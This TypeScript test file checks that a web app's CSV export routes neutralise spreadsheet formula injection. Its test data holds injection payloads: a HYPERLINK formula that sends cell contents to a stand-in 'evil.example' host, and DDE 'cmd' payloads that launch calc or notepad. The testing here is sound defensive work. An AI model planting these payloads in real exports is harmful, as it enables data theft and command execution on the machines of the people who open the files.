import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative, resolve } from "node:path";
import { parse } from "csv-parse/sync";
import { csvRecords, csvTable, csvTableInSlices, neutralizeCell } from "../../src/http/formats/csv";
import { recordAlertRun } from "../../src/ops/alerts/service";
import { enqueueLinkMessage } from "../../src/ops/link-inbox/notify";
import { openTestApp, jsonInit, type TestApp } from "../support/app";
import { messengerEnv } from "../messenger/support";
import { FakeClock } from "../support/clock";
import { operationsOf } from "../support/fuzz-operations";
import type { FuzzOperation } from "../support/fuzz-target";
import { createAdminToken } from "../support/partner";

// Exports safe to open in a spreadsheet (docs/http-conventions.md, "CSV exports"): formulas are planted where
// operators' and outsiders' text reaches an export (an incident's title and message, an alert run's source, name
// and value, a link-inbox event's issue id), then EVERY CSV route of the OpenAPI document is fetched and parsed
// with csv-parse: no text cell may start like a formula. And one module writes CSV: no other file imports
// csv-stringify.

const SRC = resolve(import.meta.dir, "../../src");
const T0 = "2026-03-01T12:00:00.000Z";
const PLANTED = {
  title: '=HYPERLINK("http://evil.example/steal?d="&A1,"Open report")',
  message: "+cmd|' /C calc'!A0",
  alertName: "@SUM(1+1)*cmd|' /C calc'!A0",
  alertValue: "-2+3+cmd|' /C calc'!A0",
  alertSource: "=1+1",
  issueId: "\t=cmd|' /C notepad'!A0",
};
const FORMULA_LEAD = /^[=+\-@\t\r]/;
const DECIMAL = /^-?\d+(?:\.\d+)?$/;

let h: TestApp;
let auth: Record<string, string>;
let operations: FuzzOperation[];

beforeAll(async () => {
  // With a bot configured: the games overview export is a CSV route too.
  h = await openTestApp({ clock: new FakeClock(T0), env: messengerEnv() });
  auth = { authorization: `Bearer ${await createAdminToken(h)}` };
  const created = await h.json(
    "/admin/status/incidents",
    jsonInit("POST", { title: PLANTED.title, message: PLANTED.message, severity: "warn", components: ["webhooks"] }, auth),
  );
  expect(created.status).toBe(201);
  await recordAlertRun(h.ctx, { source: PLANTED.alertSource, alerts: [{ name: PLANTED.alertName, status: "warn", value: PLANTED.alertValue }] });
  await enqueueLinkMessage(h.ctx.store, h.ctx, { event: "incident.opened", issueId: PLANTED.issueId, text: PLANTED.title, link: `${PLANTED.message}/x` });
  operations = operationsOf(await (await h.request("/api/openapi.json")).json());
});
afterAll(() => h.close());

const parseCsv = (text: string) => parse(text, { relax_quotes: false }) as string[][];
const unsafeCells = (records: string[][]) => records.flat().filter((c) => FORMULA_LEAD.test(c) && !DECIMAL.test(c));

const isCsvRoute = (op: FuzzOperation) =>
  op.method === "GET" && Object.values(op.raw.responses ?? {}).some((r: any) => Object.keys(r?.content ?? {}).some((t) => t.startsWith("text/csv")));

/** The request for a CSV route: its credential, and the required parameters a route of this app has. */
async function requestFor(op: FuzzOperation): Promise<{ path: string; headers: Record<string, string> }> {
  expect(op.path).not.toContain("{"); // a CSV route with a path parameter would need a value here
  const headers = op.credential === "admin" ? auth : {};
  if (op.path === "/admin/ops/link-inbox/events/export-download.csv") {
    const issued = await h.json("/admin/ops/link-inbox/events/export.json?download_token=1", { headers: auth });
    expect(issued.status).toBe(200);
    return { path: `${op.path}?download_token=${issued.body.download_token}`, headers };
  }
  const required = op.parameters.filter((p) => p.required && p.in === "query");
  expect(required.map((p) => p.name)).toEqual([]);
  return { path: op.path, headers };
}

describe("every CSV route", () => {
  test("answers parseable CSV in which no text cell starts like a formula (the planted ones are neutralised)", async () => {
    const routes = operations.filter(isCsvRoute);
    expect(routes.length).toBeGreaterThan(20);
    const problems: string[] = [];
    const bodies = new Map<string, string[][]>();
    for (const op of routes) {
      const { path, headers } = await requestFor(op);
      const res = await h.request(path, { headers });
      const text = await res.text();
      if (res.status !== 200 || !res.headers.get("content-type")?.startsWith("text/csv")) {
        problems.push(`${op.id}: ${res.status} ${res.headers.get("content-type")} ${text.slice(0, 120)}`);
        continue;
      }
      const records = parseCsv(text);
      bodies.set(op.path, records);
      for (const cell of unsafeCells(records)) problems.push(`${op.id}: ${JSON.stringify(cell)}`);
    }
    expect(problems).toEqual([]);

    // The planted text reaches these exports, neutralised (one leading quote, the rest verbatim).
    const incidents = bodies.get("/admin/ops/incidents/export")!.flat();
    expect(incidents).toContain(`'${PLANTED.title}`);
    expect(incidents).toContain(`'${PLANTED.message}`);
    const runs = bodies.get("/admin/ops/alerts-monitor/runs/export")!.flat();
    expect(runs).toContain(`'${PLANTED.alertSource}`);
    const events = bodies.get("/admin/ops/link-inbox/events/export.csv")!.flat();
    expect(events).toContain(`'${PLANTED.issueId}`);
    expect(events).toContain(`'${PLANTED.message}/x`);
  });

  test("the ZIP's alerts.csv and runs.csv follow the same rule", async () => {
    const { unzipSync, strFromU8 } = await import("fflate");
    const res = await h.request("/admin/ops/alerts-monitor/export.zip", { headers: auth });
    expect(res.status).toBe(200);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const alerts = parseCsv(strFromU8(files["alerts.csv"]!));
    const runs = parseCsv(strFromU8(files["runs.csv"]!));
    expect(unsafeCells(alerts)).toEqual([]);
    expect(unsafeCells(runs)).toEqual([]);
    expect(alerts.flat()).toEqual(expect.arrayContaining([`'${PLANTED.alertName}`, `'${PLANTED.alertValue}`, `'${PLANTED.alertSource}`]));
  });
});

describe("the CSV helper (src/http/formats/csv.ts)", () => {
  test("a text cell that starts with = + - @, a tab or a CR gets a leading quote; numbers, booleans and decimal text stay", () => {
    const rows = [
      { kind: "eq", v: "=1+1" },
      { kind: "plus", v: "+1+1" },
      { kind: "minus", v: "-1+1" },
      { kind: "at", v: "@SUM(A1)" },
      { kind: "tab", v: "\t=1" },
      { kind: "cr", v: "\r=1" },
      { kind: "number", v: -5 },
      { kind: "decimal text", v: "-1500.25" },
      { kind: "bare minus", v: "-" },
      { kind: "boolean", v: true },
      { kind: "null", v: null },
      { kind: "plain", v: "a=b" },
    ];
    const parsed = parse(csvTable(rows, ["kind", "v"]), { columns: true }) as Array<{ kind: string; v: string }>;
    expect(Object.fromEntries(parsed.map((r) => [r.kind, r.v]))).toEqual({
      eq: "'=1+1",
      plus: "'+1+1",
      minus: "'-1+1",
      at: "'@SUM(A1)",
      tab: "'\t=1",
      cr: "'\r=1",
      number: "-5",
      "decimal text": "-1500.25",
      "bare minus": "'-",
      boolean: "true",
      null: "",
      plain: "a=b",
    });
    expect(csvRecords([["=x", -1, false]])).toBe("'=x,-1,false\r\n");
    expect(neutralizeCell("-0.5")).toBe("-0.5");
    expect(neutralizeCell("-0.5e3")).toBe("'-0.5e3");
  });

  test("is the only module that imports csv-stringify", () => {
    const walk = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? walk(path) : path.endsWith(".ts") ? [path] : [];
      });
    const writers = walk(SRC)
      .filter((f) => /from\s+["']csv-stringify/.test(readFileSync(f, "utf8")))
      .map((f) => relative(SRC, f));
    expect(writers).toEqual(["http/formats/csv.ts"]);
  });
});

test("csvTableInSlices writes the same text as csvTable, a slice at a time (the event loop turns between slices)", async () => {
  const cells = ["=HYPERLINK(1)", 'say "hi"', "-5", null, 42, true, "a,b\nc", undefined, "+cmd", "plain"];
  const rows = Array.from({ length: 1_234 }, (_, i) => ({ id: i, a: cells[i % cells.length], b: cells[(i * 7) % cells.length], c: `row ${i}` }));
  const columns = ["id", "a", "b", "c"];
  let turns = 0;
  const counting = setInterval(() => turns++, 0);
  const sliced = await csvTableInSlices(rows, columns);
  clearInterval(counting);
  expect(sliced).toBe(csvTable(rows, columns));
  expect(turns).toBeGreaterThan(0);
  expect(await csvTableInSlices(rows.slice(0, 3), columns)).toBe(csvTable(rows.slice(0, 3), columns));
  expect(await csvTableInSlices([], columns)).toBe(csvTable([], columns));
});
